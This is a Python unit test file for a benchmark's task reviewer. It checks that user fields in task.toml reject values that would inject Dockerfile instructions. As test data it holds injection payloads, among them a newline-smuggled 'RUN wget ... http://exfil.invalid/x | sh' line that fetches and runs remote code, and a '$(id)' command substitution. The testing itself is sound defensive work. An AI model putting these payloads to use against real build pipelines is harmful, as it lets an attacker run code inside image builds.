"""Every user a task.toml names is one plain user name or `uid[:gid]`, at submit and on the worker.

Pier writes the agent's user into its online agent-install Dockerfile
(`USER <user>`), the one image build that keeps the network: a newline in it
would add any instruction to that build.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from sciencebench.core.errors import TaskSpecError
from sciencebench.core.taskreview import review_task, review_task_dir, task_user_problem
from sciencebench.login.taskspec import load_task
from tests.fixtures.selection import REAL_TASKS, make_selection

pytestmark = pytest.mark.unit

INJECTED = "root\nRUN wget -qO- http://exfil.invalid/x | sh"


def _task_with(tmp_path: Path, section: str, line: str) -> Path:
    """A task whose task.toml has `line` first in its (existing) `[section]` table."""
    task = make_selection(tmp_path / "sel", ["002"]) / "task_002"
    path = task / "task.toml"
    text = path.read_text()
    assert f"[{section}]\n" in text
    path.write_text(text.replace(f"[{section}]\n", f"[{section}]\n{line}\n", 1))
    return task


def test_an_agent_user_that_injects_a_dockerfile_line_is_refused(tmp_path: Path) -> None:
    """The review's finding: `[agent] user` with a newline adds a line to Pier's networked build."""
    task = make_selection(tmp_path / "sel", ["002"]) / "task_002"
    toml = (task / "task.toml").read_text()
    injected = '[agent]\nuser = "root\\nRUN wget -qO- http://exfil.invalid/x | sh"'
    (task / "task.toml").write_text(toml.replace("[agent]", injected, 1))
    assert review_task_dir(task).problems, (
        "a task whose agent user carries a Dockerfile instruction must be refused"
    )


@pytest.mark.parametrize(
    ("raw", "where"),
    [
        ({"agent": {"user": INJECTED}}, "agent.user"),
        ({"verifier": {"user": INJECTED}}, "verifier.user"),
        ({"steps": [{"name": "a", "agent": {"user": "ok"}}, {"name": "b", "agent": {"user": INJECTED}}]},
         "steps[1].agent.user"),
        ({"steps": [{"name": "a", "verifier": {"user": "1000:x"}}]}, "steps[0].verifier.user"),
        ({"agent": {"user": "root --privileged"}}, "agent.user"),
        ({"agent": {"user": "$(id)"}}, "agent.user"),
        ({"agent": {"user": ""}}, "agent.user"),
        ({"agent": {"user": -1}}, "agent.user"),
        ({"agent": {"user": True}}, "agent.user"),
        ({"agent": {"user": ["root"]}}, "agent.user"),
    ],
)  # fmt: skip
def test_every_user_field_is_checked(tmp_path: Path, raw: dict[str, object], where: str) -> None:
    task = make_selection(tmp_path / "sel", ["002"]) / "task_002"
    problems = review_task(task, raw).problems
    assert problems == (f"task.toml {where}: not a plain user name or uid[:gid]",)


@pytest.mark.parametrize("user", ["root", "agent", "_svc", "ci-user.1", "1000", "1000:1000", 0, 1000])
def test_plain_users_pass(user: object) -> None:
    assert task_user_problem("agent.user", user) is None
    assert task_user_problem("agent.user", None) is None


def test_submit_refuses_an_injected_user_with_one_line(tmp_path: Path) -> None:
    task = _task_with(tmp_path, "verifier", 'user = "root\\nRUN true"')
    with pytest.raises(TaskSpecError) as refused:
        load_task(task, "002")
    assert "verifier.user: not a plain user name" in str(refused.value)
    assert "\n" not in str(refused.value)


def test_the_real_tasks_set_no_user_and_pass() -> None:
    tasks = sorted(REAL_TASKS.glob("task_*"))
    assert len(tasks) >= 10
    for task in tasks:
        assert review_task_dir(task).problems == (), task.name
